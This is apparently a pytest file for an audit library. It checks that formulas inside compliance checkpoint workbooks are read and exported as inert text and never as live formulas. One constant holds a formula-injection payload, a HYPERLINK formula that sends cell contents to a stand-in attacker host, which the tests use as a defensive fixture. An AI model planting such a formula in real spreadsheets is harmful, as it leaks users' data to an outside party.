"""Formulas in a checkpoint workbook are data, never trusted (issue 15).

Attacks: a formula in a text column (a control text `=HYPERLINK(...)`), a requirement id
computed by a formula that has no cached value (openpyxl and scripts write none: it read
as blank and silently merged 103's controls into 102), and workbook text starting with
`=` that the `checkpoints` xlsx export wrote back as a live formula.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from auditlib.checkpoints.reader import ChecklistError, load_checkpoints
from auditlib.cli import main
from auditlib.testing.workbooks import RequirementRows, write_workbook

HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")'
N1 = "N1 - Document de Conformité ou preuve Ségur"


def requirements(
    req_103: str = "EXI EDC PSC 103", control: str = "Document fourni"
) -> list[RequirementRows]:
    return [
        RequirementRows(
            {"requirement_id": "EXI EDC PSC 102", "fs_utilisateur": "OUI", "chapter": "2.1"},
            [{"avant": "Engagement CGU signé", "avant_level": N1}],
        ),
        RequirementRows(
            {"requirement_id": req_103, "fs_utilisateur": "OUI", "chapter": "2.2"},
            [
                {"avant": control, "avant_level": N1},
                {"avant": "Sections renseignées", "avant_level": N1},
            ],
        ),
    ]


def with_cached_values(path: Path, cached: dict[str, str]) -> Path:
    """Give formula cells a cached string value, as Excel does when it saves."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode("utf-8")
    for ref, value in cached.items():
        sheet, count = re.subn(
            rf'<c r="{ref}"([^>]*)><f>(.*?)</f><v\s*/?>(</v>)?',
            rf'<c r="{ref}"\1 t="str"><f>\2</f><v>{value}</v>',
            sheet,
        )
        assert count == 1, ref
    parts["xl/worksheets/sheet1.xml"] = sheet.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def cell_of(grid: object, requirement: str) -> str:
    return next(r.cell for r in grid.requirements.values() if r.id == requirement)  # type: ignore[attr-defined]


def test_formula_in_a_text_column_is_read_as_its_text(tmp_path: Path) -> None:
    grid = load_checkpoints(write_workbook(tmp_path / "w.xlsx", requirements(control=HOSTILE)))
    control = next(c for c in grid.controls if c.ref == "EXI EDC PSC 103/AVANT/1")
    assert control.text == HOSTILE
    (warning,) = [w for w in grid.warnings if "formula" in w]
    assert warning.startswith(f"{control.cell}: formula read as its text") and HOSTILE in warning


def test_formula_requirement_id_without_cached_value_is_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_workbook(tmp_path / "w.xlsx", requirements(req_103='="EXI EDC PSC "&103'))
    with pytest.raises(ChecklistError) as info:
        load_checkpoints(path)
    text = str(info.value)
    assert "Points de contrôle!" in text and "requirement id is a formula" in text
    assert "without a cached value" in text
    assert main(["checkpoints", str(path)]) == 2
    err = capsys.readouterr().err
    assert "without a cached value" in err and "Traceback" not in err


def test_formula_requirement_id_with_cached_value_is_used_with_a_warning(
    tmp_path: Path,
) -> None:
    path = write_workbook(tmp_path / "w.xlsx", requirements(req_103='="EXI EDC PSC "&103'))
    first = load_checkpoints(write_workbook(tmp_path / "plain.xlsx", requirements()))
    ref = cell_of(first, "EXI EDC PSC 103").split("!")[1]
    grid = load_checkpoints(with_cached_values(path, {ref: "EXI EDC PSC 103"}))
    assert [c.ref for c in grid.controls] == [c.ref for c in first.controls]
    assert any(
        w.startswith(f"Points de contrôle!{ref}: the requirement id is a formula")
        and "'EXI EDC PSC 103' is used" in w
        for w in grid.warnings
    )


def test_text_starting_with_equals_is_kept_and_exported_as_text(tmp_path: Path) -> None:
    """A string cell holding `=...` (not a formula) reads unchanged, without a warning,
    and every export writes it as a string cell with the quote prefix."""
    source = write_workbook(tmp_path / "w.xlsx", requirements())
    workbook = load_workbook(source)
    sheet = workbook.active
    assert sheet is not None
    target = next(c for row in sheet.iter_rows() for c in row if c.value == "Document fourni")
    target.value = HOSTILE
    target.data_type = "s"  # a text cell, as Excel writes '=... typed with a quote
    workbook.save(source)
    grid = load_checkpoints(source)
    assert any(c.text == HOSTILE for c in grid.controls)
    assert not any("formula" in w for w in grid.warnings)
    out = grid.export(tmp_path / "out.xlsx")
    exported = load_workbook(out)["Contrôles"]
    cells = [c for row in exported.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [c for row in exported.iter_rows() for c in row if c.data_type == "f"]
    # and reads its own export back unchanged (the quote prefix is style, not text)
    values = load_workbook(out, read_only=True)["Contrôles"].iter_rows(values_only=True)
    assert any(HOSTILE in row for row in values)


def test_cli_export_of_a_hostile_workbook_has_no_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_workbook(tmp_path / "w.xlsx", requirements(control=HOSTILE))
    out = tmp_path / "grid.xlsx"
    assert main(["checkpoints", str(source), "--format", "xlsx", "--output", str(out)]) == 0
    assert "formula read as its text" in capsys.readouterr().err
    sheet = load_workbook(out)["Contrôles"]
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    texts = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert texts and texts[0].quotePrefix
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["ref", "requirement_id"]
    assert sheet.cell(row=2, column=header.index("fs_utilisateur") + 1).value is True


def test_formula_scan_of_the_sheet_xml() -> None:
    """The XML scan: shared formulas translated, entities decoded, prefixes, array
    formulas; an <f> outside sheetData ignored; a cell without `r` hands over to openpyxl."""
    from auditlib.checkpoints.reader import _formulas_in_xml

    xml = (
        b'<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<x:sheetData>"
        b'<x:row r="2"><x:c r="B2" t="str"><x:f t="shared" ref="B2:B4" si="0">A2&amp;"x"</x:f>'
        b'<x:v>ax</x:v></x:c><x:c r="C2" t="inlineStr"><x:is><x:t>=plain</x:t></x:is></x:c></x:row>'
        b'<x:row r="3"><x:c r="B3" t="str"><x:f t="shared" si="0"/><x:v>bx</x:v></x:c></x:row>'
        b'<x:row r="4"><x:c r="AA4"><x:f t="array" ref="AA4">SUM(A1:A3&lt;2)</x:f></x:c></x:row>'
        b"</x:sheetData><x:extLst><x14:dataValidation><xm:f>Other!A1</xm:f>"
        b"</x14:dataValidation></x:extLst></x:worksheet>"
    )
    assert _formulas_in_xml(xml) == {
        (1, 1): '=A2&"x"',
        (2, 1): '=A3&"x"',
        (3, 26): "=SUM(A1:A3<2)",
    }
    assert _formulas_in_xml(b"<worksheet><sheetData/></worksheet>") == {}
    no_ref = b"<worksheet><sheetData><row><c><f>1+1</f></c></row></sheetData></worksheet>"
    assert _formulas_in_xml(no_ref) is None


def test_xml_scan_agrees_with_openpyxl(tmp_path: Path) -> None:
    from auditlib.checkpoints.reader import _formulas_by_openpyxl, _formulas_in_xml

    path = write_workbook(tmp_path / "w.xlsx", requirements(control=HOSTILE))
    workbook = load_workbook(path)
    sheet = workbook.active
    assert sheet is not None
    sheet["Z40"] = "=SUM(1, 2)"
    sheet["AB7"] = '="<&>"'
    workbook.save(path)
    with zipfile.ZipFile(path) as archive:
        scanned = _formulas_in_xml(archive.read("xl/worksheets/sheet1.xml"))
    assert scanned == _formulas_by_openpyxl(path, "Points de contrôle")
    assert scanned is not None and len(scanned) == 3
